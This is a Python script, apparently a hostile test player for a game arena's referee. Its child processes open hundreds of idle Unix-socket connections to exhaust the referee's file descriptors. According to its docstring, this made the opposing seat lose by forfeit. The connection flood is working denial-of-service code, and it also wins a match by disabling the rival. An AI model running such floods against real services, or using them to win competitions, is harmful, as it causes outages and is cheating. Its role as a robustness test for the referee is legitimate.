"""Claims its own seat, then opens many idle connections to the referee from several processes, then plays.

Against a referee whose seats share one listener and whose open-file limit is systemd's 1,024, the
idle connections used up the referee's descriptors: the other seat could not connect and lost by
forfeit. Arguments: how many processes, and how many connections each opens.
"""

import os
import socket
import subprocess
import sys
import time

if len(sys.argv) > 1 and sys.argv[1] == "--child":
    path, count = os.environ["B99_ARENA_ADDRESS"].removeprefix("unix:"), int(sys.argv[2])
    held, refused = [], 0
    for _ in range(count):
        connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        connection.settimeout(0.5)
        try:
            connection.connect(path)
            held.append(connection)
        except OSError:
            refused += 1
            connection.close()
    sys.stderr.write(f"child: connected {len(held)}, refused {refused}\n")
    sys.stderr.flush()
    time.sleep(600)  # hold them (the sandbox kills this at the end of the match)
    sys.exit(0)

from hostile import Stream, play, say  # noqa: E402

processes, each = (int(sys.argv[1]), int(sys.argv[2])) if len(sys.argv) > 2 else (5, 230)
stream = Stream(metadata=True)  # the seat is claimed by the token in the metadata, before the flood
time.sleep(0.3)
children = [subprocess.Popen([sys.executable, __file__, "--child", str(each)]) for _ in range(processes)]
time.sleep(1.0)
say(f"connection flood: opened {processes} x {each} connections")
play(stream=stream)
say("connection flood: played my own seat")
